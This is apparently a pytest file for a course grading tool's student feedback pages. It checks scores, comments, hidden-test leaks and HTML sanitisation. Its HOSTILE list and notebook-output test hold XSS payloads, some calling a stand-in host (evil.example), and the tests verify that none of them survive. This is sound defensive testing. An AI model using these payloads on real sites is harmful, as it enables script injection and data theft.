"""Feedback pages: points, comments and messages are there; nothing runs, nothing is fetched, nothing hidden shows."""

from __future__ import annotations

import dataclasses
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
from nbgrader.api import Gradebook
from support import fill, reads, small_repository

from course_utils import release
from course_utils.grading import feedback
from course_utils.grading.feedback import FeedbackError, write_feedback
from course_utils.grading.files import autograded_path
from course_utils.grading.gradebook import Book
from course_utils.grading.records import Graded, Verdict

NAME = "01-sums"
CELLS = ("mean-visible", "mean-hidden", "spread-visible", "spread-hidden")
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> release.Released:
    return release.build(small_repository(tmp_path_factory.mktemp("repository")), NAME)


@pytest.fixture
def book(tmp_path: Path, made: release.Released) -> Iterator[Book]:
    course = tmp_path / "a [class]"  # a pattern to nbgrader, in every path
    course.mkdir()
    with Book(course) as opened:
        opened.register(NAME, reads(made.instructor))
        yield opened


def record(nb: NotebookNode, student: str = "kim", **messages: str) -> Graded:
    lost = {name.replace("_", "-"): message for name, message in messages.items()}
    verdicts = tuple(Verdict(name, name not in lost, lost.get(name, "")) for name in CELLS)
    return Graded(student, NAME, verdicts=verdicts, notebook=nbformat.writes(nb))


def page(book: Book, graded: Graded) -> str:
    """What a student would open."""
    book.write(graded, "f")
    (path,) = write_feedback(book.course, NAME, [graded.student])
    return path.read_text(encoding="utf-8")


class Loaded(HTMLParser):
    """Everything in a page that a browser would run, fetch or follow."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.fetched: list[str] = []
        self.links: list[str] = []
        self.handlers: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        for name, value in attrs:
            if name in ("src", "srcset", "data", "poster", "background", "action", "formaction"):
                self.fetched.append(str(value))
            elif name == "href":
                (self.links if tag == "a" else self.fetched).append(str(value))
            elif name.startswith("on") or name == "style":
                self.handlers.append(name)


def test_a_page_has_points_messages_and_comments(book: Book, made: release.Released) -> None:
    nb = fill(reads(made.student), {"mean": "def mean(numbers):\n    return 0  # mine"})
    book.write(record(nb, mean_visible="the mean of 1 and 4 is 2.5, not 0", mean_hidden=""), "f")
    with Gradebook(book.url) as stock:
        stock.find_comment("mean", NAME, NAME, "kim").manual_comment = "Look at the **sum**"
        stock.find_grade("mean-hidden", NAME, NAME, "kim").manual_score = 5.0
        stock.db.commit()
    (path,) = write_feedback(book.course, NAME)
    assert path == book.course / "feedback" / "kim" / NAME / f"{NAME}.html"
    text = path.read_text(encoding="utf-8")
    assert "01-sums (Score: 55.0 / 100.0)" in text
    assert "Score: 5.0 / 30.0" in text
    assert "<pre>the mean of 1 and 4 is 2.5, not 0</pre>" in text
    assert text.count("This test did not pass.") == 1
    assert "Look at the <strong>sum</strong>" in text
    assert "# mine" in text
    assert text.count("No response.") == 1  # the spread's


@pytest.mark.parametrize("student", ["김철수", "[x]*?", "a b", 'o\'hara "q" <b>', "{student_id}", "-r"])
def test_any_student_finds_their_page(book: Book, made: release.Released, student: str) -> None:
    book.write(record(reads(made.student), "x"), "f")  # whom the pattern [x]*? would find
    assert "Score: 70.0 / 100.0" in page(book, record(reads(made.student), student, mean_hidden="no"))
    assert sorted(path.name for path in (book.course / "feedback").iterdir()) == [student]


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    "[a](javascript:alert(1)) <a href='java\nscript:alert(1)'>b</a> <a href=' &#106;avascript:alert(1)'>c</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>d</a>",
    "![e](https://evil.example/pixel.png) ![f](//evil.example/pixel.png)",
    "<iframe src='https://evil.example'></iframe><object data='https://evil.example'></object>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import url(https://evil.example/y.css)</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example'>",
    "<form action=https://evil.example><input name=a><button formaction=https://evil.example>go</button></form>",
    "<div style='position:fixed;background:url(https://evil.example)'>over everything</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "</div></div></body><script>alert(1)</script>",
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "$<img src=x onerror=alert(1)>$ \\begin{a}<script>alert(1)</script>\\end{a}",
    r"$\text{<script>alert(1)</script>}$ $\href{javascript:alert(1)}{x}$ $\unicode{x3c}img src=x onerror=alert(1)>$",
    '<span class="formula">$a</span><script>alert(1)</script>$ ![$x$](data:image/png;base64,AAAA "$<svg onload=1>$")',
]


@pytest.mark.parametrize("source", HOSTILE)
def test_markdown_runs_and_fetches_nothing(book: Book, made: release.Released, source: str) -> None:
    nb = reads(made.student)
    nb.cells.append(new_markdown_cell(source))
    assert_harmless(page(book, record(nb)))


def assert_harmless(text: str) -> None:
    loaded = Loaded(text)
    bad = {"script", "iframe", "object", "embed", "link", "base", "form", "input", "button", "svg"}
    assert not (bad | {"mglyph", "maction", "annotation-xml"}) & set(loaded.tags)
    assert loaded.tags.count("meta") == 2  # the policy and the encoding
    assert loaded.handlers == []
    assert [each for each in loaded.fetched if not each.startswith("data:image/png;base64,")] == []
    assert [link for link in loaded.links if not re.match(r"#|https?://|mailto:", link)] == []
    css = "".join(re.findall(r"<style[^>]*>(.*?)</style>", text, re.DOTALL))
    assert "evil" not in css
    assert "@font-face" not in css
    assert not re.search(r"@import|url\(\s*['\"]?(https?:)?//", css)
    policy = "default-src 'none'; style-src 'unsafe-inline'; img-src data:"
    assert text.index(f'<meta content="{policy}" http-equiv="Content-Security-Policy"') < text.index("<style")


def test_outputs_metadata_and_raw_cells_run_and_fetch_nothing(book: Book, made: release.Released) -> None:
    script = "<script>alert(1)</script>"
    nb = reads(made.student)
    shown = {
        "text/html": script,
        "application/javascript": "alert(1)",
        "image/svg+xml": f"<svg onload='alert(1)'>{script}</svg>",
        "text/markdown": script,
        "text/latex": script,
        "application/vnd.jupyter.widget-view+json": {"model_id": script},
    }
    named = {"image/png": "https://evil.example/x.png"}
    outputs = [
        new_output("display_data", data=shown, metadata={"text/html": {"isolated": True}}),
        new_output(
            "display_data", data={"image/png": PNG}, metadata={"filenames": named, "image/png": {"alt": script}}
        ),
        new_output("display_data", data={"image/png": f'"><img src=x onerror="alert(1)">{script}'}),
        new_output("stream", name="stdout", text=f"plain {script} \x1b[31m{script}"),
        new_output("error", ename=script, evalue=script, traceback=[script]),
        new_output("execute_result", data={"text/plain": script}, metadata={}),
    ]
    spoof = {"grade": True, "solution": True, "grade_id": script, "points": script, "score": script, "comment": script}
    metadata = {"tags": [f'"{script}'], "nbgrader": spoof, "raw_mimetype": "text/html", "magics_language": script}
    nb.cells += [
        new_code_cell(f"x = '{script}'", outputs=outputs, metadata=metadata),
        new_raw_cell(script, metadata=metadata),
        new_raw_cell(script),
    ]
    nb.metadata.update({"title": script, "widgets": {"application/vnd.jupyter.widget-state+json": {"a": script}}})
    nb.metadata["language_info"] = {"name": script, "pygments_lexer": script}
    text = page(book, record(nb, mean_hidden=f"{script} is no mean"))
    assert_harmless(text)
    assert f"data:image/png;base64,{PNG}" in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt; is no mean" in text
    assert "plain &lt;script&gt;" in text


def test_images_that_were_pasted_are_in_the_page_and_missing_ones_stop_nothing(
    book: Book, made: release.Released
) -> None:
    nb = reads(made.student)
    attachments = {"a.png": {"image/png": PNG}, "b.html": {"text/html": "PHNjcmlwdD4="}}
    nb.cells.append(new_markdown_cell("![mine](attachment:a.png)", attachments=attachments))
    nb.cells.append(new_markdown_cell("![page](attachment:b.html)", attachments=attachments))
    nb.cells.append(new_markdown_cell("<i>never pasted</i> ![gone](attachment:gone.png)"))
    text = page(book, record(nb))
    assert f'<img alt="mine" src="data:image/png;base64,{PNG}"/>' in text
    assert "PHNjcmlwdD4=" not in text
    assert "![gone](attachment:gone.png)" in text
    assert_harmless(text)


def test_roles_come_from_the_gradebook_and_not_from_the_notebook(book: Book, made: release.Released) -> None:
    nb = reads(made.student)
    claims = {"grade_id": "mean-visible", "grade": True, "solution": False, "points": 1000}
    nb.cells.insert(0, new_code_cell("pass", metadata={"nbgrader": claims}))
    nb.cells.append(new_code_cell("pass", metadata={"nbgrader": {"grade_id": "unknown", "solution": True}}))
    text = page(book, record(nb, mean_visible="not the mean"))
    assert text.count("Score: 0.0 / 20.0") == 2  # the list at the top, and one cell
    assert text.count("<pre>not the mean</pre>") == 1
    assert "/ 1000" not in text


def test_a_refused_submission_is_told_why(book: Book) -> None:
    text = page(book, Graded("kim", NAME, refusal="01-sums.ipynb is <b>no</b> notebook"))
    assert "could not be graded" in text
    assert "01-sums.ipynb is &lt;b&gt;no&lt;/b&gt; notebook" in text
    assert "Score: 0.0 / 100.0" in text


@pytest.mark.parametrize("where", ["source", "output", "message"])
def test_a_page_that_would_show_a_hidden_test_is_not_written(book: Book, made: release.Released, where: str) -> None:
    line = 'assert numbers == kept, "the list was changed"'
    nb = reads(made.student)
    if where == "source":
        nb = reads(made.instructor)
    if where == "output":
        nb.cells.append(new_code_cell("mean([])", outputs=[new_output("error", traceback=[f"----> 3 {line}"])]))
    book.write(record(nb, mean_hidden=line if where == "message" else "no"), "f")
    book.write(record(reads(made.student), "ann"), "f")
    with pytest.raises(FeedbackError, match=r"1 of 2 pages were not written; first kim: .* line of a hidden test"):
        write_feedback(book.course, NAME)
    assert sorted(path.name for path in (book.course / "feedback").iterdir()) == ["ann"]


def test_a_student_may_write_what_a_hidden_test_has(book: Book, made: release.Released) -> None:
    source = "def mean(numbers):\n    kept = list(numbers)\n    return sum(kept) / len(kept)"
    assert "Score: 100.0 / 100.0" in page(book, record(fill(reads(made.student), {"mean": source})))


def test_processes_that_share_the_work_write_the_same(
    book: Book, made: release.Released, monkeypatch: pytest.MonkeyPatch
) -> None:
    students = [f"s{number}" for number in range(5)]
    monkeypatch.setattr(feedback, "PAGES_WORTH_A_PROCESS", 2)
    for student in students:
        book.write(record(reads(made.student), student, mean_hidden=f"not for {student}"), "f")
    autograded_path(book.course, "s3", NAME).unlink()
    written = []
    for cores in (2, 1):
        monkeypatch.setattr(feedback.os, "cpu_count", lambda cores=cores: cores)
        with pytest.raises(FeedbackError, match=r"1 of 5 pages were not written; first s3: .* is no file"):
            write_feedback(book.course, NAME)
        written.append([path.read_bytes() for path in sorted((book.course / "feedback").rglob("*.html"))])
    assert written[0] == written[1]
    assert len(written[0]) == 4
    for student in {*students} - {"s3"}:
        path = book.course / "feedback" / student / NAME / f"{NAME}.html"
        assert f"not for {student}" in path.read_text(encoding="utf-8")


def test_code_is_coloured_and_each_test_is_named(book: Book, made: release.Released) -> None:
    text = page(book, record(reads(made.student)))
    listed = text.partition('<div id="toc">')[2].partition("</ol>")[0]
    assert re.findall(r">([^<>]*)</a>", listed) == [
        line
        for problem in ("mean", "spread")
        for line in (f"Comment on {problem}", f"{problem}, visible tests", f"{problem}, hidden tests")
    ]
    assert re.search(r"\.highlight \.k \{ color: #\w+", text)


def test_links_are_not_followed_and_nothing_else_is_copied(book: Book, made: release.Released, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("the answers", encoding="utf-8")
    for student in ("ann", "kim"):
        book.write(record(reads(made.student), student), "f")
        autograded_path(book.course, student, NAME).with_name("notes.txt").symlink_to(secret)
    path = autograded_path(book.course, "kim", NAME)
    path.rename(tmp_path / "moved.ipynb")
    path.symlink_to(tmp_path / "moved.ipynb")
    with pytest.raises(FeedbackError, match=r"1 of 2 pages were not written; first kim: .* is no file"):
        write_feedback(book.course, NAME)
    written = [path.name for path in (book.course / "feedback").rglob("*") if not path.is_dir()]
    assert written == [f"{NAME}.html"]


def test_a_damaged_notebook_costs_one_page(book: Book, made: release.Released) -> None:
    for student in ("ann", "kim"):
        book.write(record(reads(made.student), student), "f")
    autograded_path(book.course, "ann", NAME).write_text("{", encoding="utf-8")
    with pytest.raises(FeedbackError, match="1 of 2 pages") as caught:
        write_feedback(book.course, NAME)
    assert "\n" not in str(caught.value)
    assert (book.course / "feedback" / "kim").is_dir()


@pytest.mark.parametrize("students", [None, ["lee"]])
def test_feedback_on_nothing_says_what_to_run(book: Book, students: list[str] | None) -> None:
    with pytest.raises(FeedbackError, match="run `course grade 01-sums` first"):
        write_feedback(book.course, NAME, students)


def test_pages_are_the_same_when_written_again(book: Book, made: release.Released) -> None:
    graded = record(reads(made.student), mean_hidden="no")
    assert page(book, graded) == page(book, dataclasses.replace(graded, seconds=3.0))
